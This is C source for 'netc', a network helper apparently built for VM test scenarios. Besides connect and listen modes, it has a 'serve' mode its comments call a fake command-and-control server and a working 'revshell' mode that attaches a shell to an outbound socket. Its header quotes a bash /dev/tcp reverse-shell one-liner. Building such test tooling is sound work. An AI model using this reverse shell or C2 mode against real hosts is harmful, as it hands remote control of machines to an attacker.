/*
 * netc — a tiny static network helper for the VM scenarios (every scenario's guest has it as
 * /usr/local/bin/netc). Plain syscalls, numeric addresses only, every wait bounded by alarm().
 *
 *   netc connect ADDR PORT [MSG]      TCP connect; send MSG and a newline; print the reply.
 *                                     Exit 0 connected, 1 refused or failed.
 *   netc udp ADDR PORT MSG            UDP connect() and send one datagram.
 *   netc listen ADDR PORT READY [REPLY]   accept one TCP connection (READY is created once
 *                                     listening), print what it sends, answer REPLY, exit.
 *   netc serve ADDR PORT READY CMDS OUT   accept one connection, send CMDS, copy everything
 *                                     received into OUT until the peer closes (a fake C2).
 *   netc revshell ADDR PORT PROG ARG0 [ARGS...]   connect, put the socket on fds 0, 1 and 2,
 *                                     and exec PROG (what `sh -i >& /dev/tcp/ADDR/PORT 0>&1` does).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static socklen_t addr_parse(const char *host, const char *port, struct sockaddr_storage *ss)
{
    memset(ss, 0, sizeof *ss);
    struct sockaddr_in *in4 = (struct sockaddr_in *)ss;
    struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;
    int p = atoi(port);
    if (inet_pton(AF_INET, host, &in4->sin_addr) == 1) {
        in4->sin_family = AF_INET;
        in4->sin_port = htons((unsigned short)p);
        return sizeof *in4;
    }
    if (inet_pton(AF_INET6, host, &in6->sin6_addr) == 1) {
        in6->sin6_family = AF_INET6;
        in6->sin6_port = htons((unsigned short)p);
        return sizeof *in6;
    }
    fprintf(stderr, "netc: bad address %s\n", host);
    exit(2);
}

static int sock_connect(const char *host, const char *port, int type)
{
    struct sockaddr_storage ss;
    socklen_t len = addr_parse(host, port, &ss);
    int fd = socket(ss.ss_family, type, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&ss, len) < 0) {
        fprintf(stderr, "netc: connect %s:%s: %s\n", host, port, strerror(errno));
        exit(1);
    }
    return fd;
}

static int sock_listen(const char *host, const char *port, const char *ready)
{
    struct sockaddr_storage ss;
    socklen_t len = addr_parse(host, port, &ss);
    int one = 1;
    int fd = socket(ss.ss_family, SOCK_STREAM, 0);
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
        bind(fd, (struct sockaddr *)&ss, len) < 0 || listen(fd, 4) < 0) {
        fprintf(stderr, "netc: listen %s:%s: %s\n", host, port, strerror(errno));
        exit(1);
    }
    int r = open(ready, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (r >= 0)
        close(r);
    int c = accept(fd, NULL, NULL);
    if (c < 0) {
        fprintf(stderr, "netc: accept: %s\n", strerror(errno));
        exit(1);
    }
    close(fd);
    return c;
}

static void send_all(int fd, const char *s, size_t n)
{
    while (n > 0) {
        ssize_t w = write(fd, s, n);
        if (w <= 0)
            return;
        s += w;
        n -= (size_t)w;
    }
}

/* Copy from fd to out until EOF (or the alarm). With one_line, stop after a newline. */
static void copy_from(int fd, int out, int one_line)
{
    char b[4096];
    ssize_t n;
    while ((n = read(fd, b, sizeof b)) > 0) {
        send_all(out, b, (size_t)n);
        if (one_line && memchr(b, '\n', (size_t)n))
            break;
    }
}

int main(int argc, char **argv)
{
    alarm(30); /* no helper outlives a stuck peer */
    if (argc >= 4 && !strcmp(argv[1], "connect")) {
        int fd = sock_connect(argv[2], argv[3], SOCK_STREAM);
        printf("connected %s:%s\n", argv[2], argv[3]);
        fflush(stdout);
        if (argc >= 5) {
            send_all(fd, argv[4], strlen(argv[4]));
            send_all(fd, "\n", 1);
            shutdown(fd, SHUT_WR);
            copy_from(fd, 1, 0);
        }
        close(fd);
        return 0;
    }
    if (argc >= 5 && !strcmp(argv[1], "udp")) {
        int fd = sock_connect(argv[2], argv[3], SOCK_DGRAM);
        send_all(fd, argv[4], strlen(argv[4]));
        close(fd);
        return 0;
    }
    if (argc >= 5 && !strcmp(argv[1], "listen")) {
        int c = sock_listen(argv[2], argv[3], argv[4]);
        copy_from(c, 1, 1);
        if (argc >= 6) {
            send_all(c, argv[5], strlen(argv[5]));
            send_all(c, "\n", 1);
        }
        close(c);
        return 0;
    }
    if (argc >= 7 && !strcmp(argv[1], "serve")) {
        int c = sock_listen(argv[2], argv[3], argv[4]);
        int out = open(argv[6], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (out < 0) {
            perror(argv[6]);
            return 1;
        }
        send_all(c, argv[5], strlen(argv[5]));
        copy_from(c, out, 0);
        close(out);
        close(c);
        return 0;
    }
    if (argc >= 6 && !strcmp(argv[1], "revshell")) {
        int fd = sock_connect(argv[2], argv[3], SOCK_STREAM);
        for (int i = 0; i < 3; i++)
            dup2(fd, i);
        if (fd > 2)
            close(fd);
        alarm(0);
        execv(argv[4], argv + 5);
        perror(argv[4]);
        return 127;
    }
    fprintf(stderr, "usage: netc connect|udp|listen|serve|revshell ... (see netc.c)\n");
    return 2;
}
